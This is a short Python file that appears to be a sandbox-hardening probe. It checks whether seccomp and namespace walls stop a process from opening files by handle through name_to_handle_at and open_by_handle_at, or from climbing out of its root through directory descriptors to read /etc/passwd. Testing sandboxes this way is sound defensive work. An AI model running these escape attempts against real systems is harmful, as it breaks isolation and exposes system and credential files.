# tries: open files by handle instead of by name, or leave its root through descriptors
# must: play on
# walls: seccomp, namespaces
import ctypes
import os

import lib


def attack():
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(140), 144)
    lib.attempt(
        "name_to_handle_at",
        lib.syscall,
        "name_to_handle_at",
        -100,
        b"/usr",
        handle,
        ctypes.byref(ctypes.c_int()),
        0,
    )
    lib.attempt("open_by_handle_at", lib.syscall, "open_by_handle_at", -100, handle, 0)
    for fd in range(64):
        try:
            found = os.stat(f"/dev/fd/{fd}") if os.path.exists("/dev/fd") else os.fstat(fd)
        except OSError:
            continue
        if (found.st_mode & 0o170000) == 0o040000:
            lib.attempt(f"climb from {fd}", os.open, "../../../etc/passwd", os.O_RDONLY, dir_fd=fd)
    lib.attempt("climb", open, "../../../../../../etc/passwd")


choose = lib.once(attack)
